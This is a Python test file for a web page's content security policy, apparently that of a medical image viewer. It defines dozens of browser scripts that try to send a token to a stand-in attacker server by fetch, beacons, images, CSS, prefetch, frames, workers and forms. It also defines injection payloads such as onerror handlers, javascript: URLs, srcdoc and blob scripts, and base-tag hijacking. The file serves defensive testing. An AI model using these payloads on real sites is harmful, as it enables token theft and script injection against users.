"""Attacks on the page's policy: ways for a script to send the token away, and ways for a script to get into the page.

The policy is in the page's markup, so it holds even if the server sends no headers.
"""

from __future__ import annotations

from attacks import weakenings as weak
from attacks.model import PageAttack
from attacks.requirements import attacker_gets_nothing, script_does_not_run
from attacks.rows.page_attacks import script

BOTH = ("bare", "headers")


def leaks(name: str, why: str, js: str) -> PageAttack:
    """A script in the page tries to send the token to the attacker's server."""
    return script(f"leak-{name}", why, js, attacker_gets_nothing, weak.NO_POLICY, servers=BOTH)


def enters(name: str, why: str, js: str, *, servers: tuple[str, ...] = BOTH) -> PageAttack:
    """Text of a study or a link becomes markup; the script in it must not run."""
    wait = "await new Promise(done => setTimeout(done, 250)); return window.pwned === true;"
    return script(f"enter-{name}", why, f"{js}; {wait}", script_does_not_run, weak.NO_POLICY, servers=servers)


def _element(markup: str) -> str:
    """Adds an element to the page, as OHIF's code does, and waits for it to load or fail."""
    return (
        f"const box = document.createElement('div'); box.innerHTML = `{markup}`; document.body.append(box);"
        "await new Promise(done => setTimeout(done, 200));"
    )


LEAKS = (
    leaks("fetch", "a request", "await fetch(`${evil}/?${token}`, { mode: 'no-cors' }).catch(() => {})"),
    leaks("fetch-keepalive", "a request that outlives the page", "await fetch(`${evil}/?${token}`, { mode: 'no-cors', keepalive: true }).catch(() => {})"),
    leaks("fetch-post", "a request with a body", "await fetch(evil, { method: 'POST', mode: 'no-cors', body: token }).catch(() => {})"),
    leaks("fetch-cors-header", "a header that the attacker's server asks for", "await fetch(evil, { headers: { 'X-T': token } }).catch(() => {})"),
    leaks("xhr", "an XMLHttpRequest", "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', `${evil}/?${token}`); x.onloadend = done; x.send(); })"),
    leaks("beacon", "a beacon", "navigator.sendBeacon(`${evil}/?${token}`, token); await new Promise(d => setTimeout(d, 150))"),
    leaks("event-source", "an event stream", "await new Promise(done => { const e = new EventSource(`${evil}/?${token}`); e.onerror = () => { e.close(); done(); }; })"),
    leaks("web-socket", "a WebSocket", "await new Promise(done => { try { const w = new WebSocket(evil.replace('http', 'ws') + '/?' + token); w.onclose = w.onerror = done; } catch { done(); } })"),
    leaks("image", "an image", "await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = `${evil}/?${token}`; })"),
    leaks("image-srcset", "an image with several sizes", _element("<img srcset=\"${evil}/?${token} 2x\">")),
    leaks("picture-source", "a picture element with sources", _element("<picture><source srcset=\"${evil}/?${token}\"><img></picture>")),
    leaks("image-input", "a button with an image", _element("<input type=image src=\"${evil}/?${token}\">")),
    leaks("svg-image", "an image in an SVG", _element("<svg><image href=\"${evil}/?${token}\"/></svg>")),
    leaks("background", "a background image", _element("<div style=\"background: url(${evil}/?${token}); width: 9px; height: 9px\"></div>")),
    leaks("css-cursor", "a style with an image for list items", _element("<ul style=\"list-style-image: url(${evil}/?${token})\"><li>x</ul>")),
    leaks("css-import", "a style sheet that imports another", _element("<style>@import url(${evil}/x.css?${token});</style>")),
    leaks("css-font", "a font", _element("<style>@font-face { font-family: e; src: url(${evil}/?${token}) }</style><p style=\"font-family: e\">x</p>") + "await document.fonts.ready;"),
    leaks("style-sheet", "a style sheet", "await new Promise(done => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = `${evil}/x.css?${token}`; l.onload = l.onerror = done; document.head.append(l); })"),
    leaks("prefetch", "a page that is prefetched", "await new Promise(done => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = `${evil}/?${token}`; l.onload = l.onerror = done; document.head.append(l); setTimeout(done, 300); })"),
    leaks("preload", "a file that is preloaded", "await new Promise(done => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = `${evil}/?${token}`; l.onload = l.onerror = done; document.head.append(l); setTimeout(done, 300); })"),
    leaks("module-preload", "a module that is preloaded", "await new Promise(done => { const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = `${evil}/x.js?${token}`; l.onload = l.onerror = done; document.head.append(l); setTimeout(done, 300); })"),
    leaks("speculation", "a speculation rule that prefetches pages", "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${evil}/?${token}`], eagerness: 'immediate' }] }); document.head.append(s); await new Promise(done => setTimeout(done, 400))"),
    leaks("script", "a script", "await new Promise(done => { const s = document.createElement('script'); s.src = `${evil}/x.js?${token}`; s.onload = s.onerror = done; document.head.append(s); })"),
    leaks("import", "a module", "await import(`${evil}/x.js?${token}`).catch(() => {})"),
    leaks("frame", "a frame", "await new Promise(done => { const f = document.createElement('iframe'); f.src = `${evil}/?${token}`; f.onload = done; document.body.append(f); setTimeout(done, 300); })"),
    leaks("object", "an object", "await new Promise(done => { const o = document.createElement('object'); o.data = `${evil}/?${token}`; o.onload = o.onerror = done; document.body.append(o); setTimeout(done, 300); })"),
    leaks("embed", "an embedded file", "await new Promise(done => { const o = document.createElement('embed'); o.src = `${evil}/x.html?${token}`; o.onload = o.onerror = done; document.body.append(o); setTimeout(done, 300); })"),
    leaks("video", "a video", "await new Promise(done => { const v = document.createElement('video'); v.src = `${evil}/?${token}`; v.onerror = done; setTimeout(done, 500); })"),
    leaks("audio", "a sound", "await new Promise(done => { const v = new Audio(`${evil}/?${token}`); v.onerror = done; v.load(); setTimeout(done, 500); })"),
    leaks("poster", "the poster of a video", _element("<video poster=\"${evil}/?${token}\" width=9 height=9></video>")),
    leaks("track", "subtitles", "await new Promise(done => { const v = document.createElement('video'), t = document.createElement('track'); v.crossOrigin = 'anonymous'; t.src = `${evil}/?${token}`; t.default = true; t.onload = t.onerror = done; v.append(t); document.body.append(v); t.track.mode = 'showing'; setTimeout(done, 400); })"),
    leaks("form", "a form that is submitted into a frame", "const f = document.createElement('form'); f.method = 'POST'; f.action = `${evil}/?${token}`; f.target = 'sink'; document.body.append(f); const i = document.createElement('iframe'); i.name = 'sink'; document.body.append(i); f.submit(); await new Promise(d => setTimeout(d, 250))"),
    leaks("worker-fetch", "a worker from a blob", "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/?${token}', { mode: 'no-cors' }).catch(() => {}).finally(() => postMessage(1))`]))); w.onmessage = w.onerror = done; })"),
    leaks("worker-import", "a worker that imports a script", "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([`try { importScripts('${evil}/x.js?${token}') } catch {} postMessage(1)`]))); w.onmessage = w.onerror = done; })"),
    leaks("frame-of-text", "an empty frame, whose fetch has no guard", "await new Promise(done => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(`${evil}/?${token}`, { mode: 'no-cors' }).then(done, done); })"),
    leaks("frame-srcdoc", "a srcdoc frame with an image", "await new Promise(done => { const f = document.createElement('iframe'); f.srcdoc = `<img src='${evil}/?${token}'>`; f.onload = done; document.body.append(f); setTimeout(done, 400); })"),
    leaks("frame-blob", "a frame with a document from a blob", "await new Promise(done => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src='${evil}/?${token}'>`], { type: 'text/html' })); f.onload = done; document.body.append(f); setTimeout(done, 400); })"),
    leaks("base-relative", "a <base> that makes relative URLs point to the attacker's server", "const b = document.createElement('base'); b.href = evil; document.head.prepend(b); await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = `x?${token}`; })"),
    leaks("redirect-of-a-picture", "an image whose address is set with setAttributeNS", "await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.setAttributeNS(null, 'src', `${evil}/?${token}`); })"),
)  # fmt: skip

ENTERS = (
    enters("inline-script", "a script element with inline code", "const s = document.createElement('script'); s.textContent = 'window.pwned = true'; document.body.append(s)"),
    enters("event-handler", "markup with an image that fails to load", "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.pwned = true\">'; document.body.append(d)"),
    enters("toggle-handler", "an element with a toggle event", "const d = document.createElement('div'); d.innerHTML = '<details open ontoggle=\"window.pwned = true\">x</details>'; document.body.append(d)"),
    enters("javascript-link", "a link with a javascript: URL", "const a = document.createElement('a'); a.href = 'javascript:void(window.pwned = true)'; document.body.append(a); a.click()"),
    enters("javascript-frame", "a frame with a javascript: URL", "const f = document.createElement('iframe'); f.src = 'javascript:void(parent.pwned = true)'; document.body.append(f)"),
    enters("frame-srcdoc", "a frame with srcdoc", "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = true</' + 'script>'; document.body.append(f)"),
    enters("frame-blob", "a frame with a document from a blob", "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>parent.pwned = true</' + 'script>'], { type: 'text/html' })); document.body.append(f)"),
    enters("object-blob", "an object with a document from a blob", "const f = document.createElement('object'); f.data = URL.createObjectURL(new Blob(['<script>parent.pwned = true</' + 'script>'], { type: 'text/html' })); document.body.append(f)"),
    enters("svg-blob", "an SVG in a frame", "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"><script>parent.pwned = true</' + 'script></svg>'], { type: 'image/svg+xml' })); document.body.append(f)"),
    enters("document-write", "markup that is written into a frame", "const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write('<script>parent.pwned = true</' + 'script>'); f.contentDocument.close()"),
    enters("script-blob", "a script from a blob", "const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.pwned = true'], { type: 'text/javascript' })); document.body.append(s)"),
    enters("script-data", "a script from a data: URL", "const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=true'; document.body.append(s)"),
    enters("import-data", "a module from a data: URL", "await import('data:text/javascript,window.pwned=true').catch(() => {})"),
    enters("import-blob", "a module from a blob", "await import(URL.createObjectURL(new Blob(['window.pwned = true'], { type: 'text/javascript' }))).catch(() => {})"),
    enters("script-of-attacker", "a script of the attacker's server", "const s = document.createElement('script'); s.src = `${evil}/x.js`; document.body.append(s)"),
    enters("base-script", "a <base> and a script with the name of a viewer's file", "const b = document.createElement('base'); b.href = evil; document.head.prepend(b); const s = document.createElement('script'); s.src = 'app-config.js'; document.body.append(s)"),
)  # fmt: skip

ROWS = (*LEAKS, *ENTERS)
